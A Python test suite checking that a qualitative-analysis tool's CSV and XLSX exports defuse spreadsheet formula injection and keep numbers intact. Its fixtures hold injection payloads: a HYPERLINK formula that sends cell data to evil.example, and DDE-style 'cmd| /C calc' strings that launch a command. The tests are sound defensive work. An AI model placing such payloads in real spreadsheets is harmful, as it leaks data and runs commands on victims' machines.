"""Formula injection (OWASP "CSV Injection"): no CSV or XLSX cell written from user text is
ever evaluated by a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qdadesk.cli import main
from qdadesk.core import Project
from qdadesk.core.analysis.activation import ALL
from qdadesk.core.analysis.retrieval import retrieve_segments
from qdadesk.core.exporters.cells import FORMULA_STARTS, csv_safe
from qdadesk.core.importers.document import ImportedDocument

HOSTILE = {
    "document": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "code": "+cmd|' /C calc'!A0",
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "text": "=1+1 said the interviewer",
    "coder": "-2+3",
    "variable": "=Name",
    "value": "\t=1+2",
}


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=lambda c: repr(c))
def test_csv_cells_that_start_like_a_formula_get_a_quote(start: str) -> None:
    assert csv_safe(start + "x") == "'" + start + "x"


@pytest.mark.parametrize("value", [-5, -2.5, 0, 7, None, "plain", "a=b", "", "'=already"])
def test_numbers_and_harmless_text_are_untouched(value) -> None:
    assert csv_safe(value) == value


@given(st.text())
def test_no_csv_text_cell_can_start_a_formula(text: str) -> None:
    safe = csv_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.qdadesk"
    with Project.create(path) as project:
        text = HOSTILE["text"] + "\nsecond line"
        document = project.add_document(
            ImportedDocument(HOSTILE["document"], text, [], b"", "txt")
        ).result
        code = project.add_code_path(HOSTILE["code"]).result
        project.add_coding(
            document, code, 0, 4, weight=50, comment=HOSTILE["comment"], coder=HOSTILE["coder"]
        )
        project.set_document_value(document, HOSTILE["variable"], HOSTILE["value"], "text")
        project.set_document_value(document, "balance", -5, "integer")
    return path


def _cli(*args) -> int:
    return main([str(a) for a in args])


def _no_formulas(path: Path) -> list[list]:
    """The workbook's values; fails if any cell is a formula."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
            rows.append([cell.value for cell in row])
    return rows


def test_cli_csv_neutralises_every_text_cell(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "segments.csv"
    assert _cli("segments", hostile, "--format", "csv", "-o", out) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["document"] == "'" + HOSTILE["document"]
    assert row["code"] == "'" + HOSTILE["code"]
    assert row["comment"] == "'" + HOSTILE["comment"]
    assert row["coder"] == "'" + HOSTILE["coder"]
    assert row["text"] == "'=1+1"
    assert row["weight"] == "50"
    for value in row.values():
        assert not value.startswith(FORMULA_STARTS), value

    out = tmp_path / "variables.csv"
    assert _cli("variables", "list", hostile, "--format", "csv", "-o", out) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    header, values = rows[0], rows[1]
    assert "'" + HOSTILE["variable"] in header
    assert values[header.index("'" + HOSTILE["variable"])] == "'" + HOSTILE["value"]
    assert values[header.index("balance")] == "-5"  # a number stays a number


def test_cli_xlsx_has_no_formulas_and_keeps_numbers(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "segments.xlsx"
    assert _cli("segments", hostile, "--format", "xlsx", "-o", out) == 0
    rows = _no_formulas(out)
    header, values = rows[0], rows[1]
    record = dict(zip(header, values, strict=True))
    assert record["document"] == HOSTILE["document"]  # the text itself, as a string cell
    assert record["text"] == "=1+1"
    assert record["weight"] == 50

    out = tmp_path / "frequencies.xlsx"
    assert _cli("frequencies", hostile, "--format", "xlsx", "-o", out) == 0
    assert HOSTILE["code"] in str(_no_formulas(out))


def test_window_exports_have_no_formulas(hostile: Path, tmp_path: Path) -> None:
    from qdadesk.core.exporters.segments import export_segments
    from qdadesk.core.exporters.tables_xlsx import write_frame_xlsx
    from qdadesk.core.exporters.variables_xlsx import export_variables_xlsx

    with Project.open(hostile) as project:
        frame = retrieve_segments(project, ALL)
        export_segments(frame, tmp_path / "segments.xlsx", project)
        export_variables_xlsx(project, tmp_path / "variables.xlsx")
        write_frame_xlsx(frame, tmp_path / "table.xlsx", HOSTILE["code"])
    rows = _no_formulas(tmp_path / "segments.xlsx")
    assert rows[1][0] == HOSTILE["document"] and rows[1][1] == HOSTILE["code"]
    assert rows[1][-1] == "=1+1" and rows[1][6] == 50
    rows = _no_formulas(tmp_path / "variables.xlsx")
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Document"] == HOSTILE["document"]
    assert record[HOSTILE["variable"]] == HOSTILE["value"] and record["balance"] == -5
    _no_formulas(tmp_path / "table.xlsx")
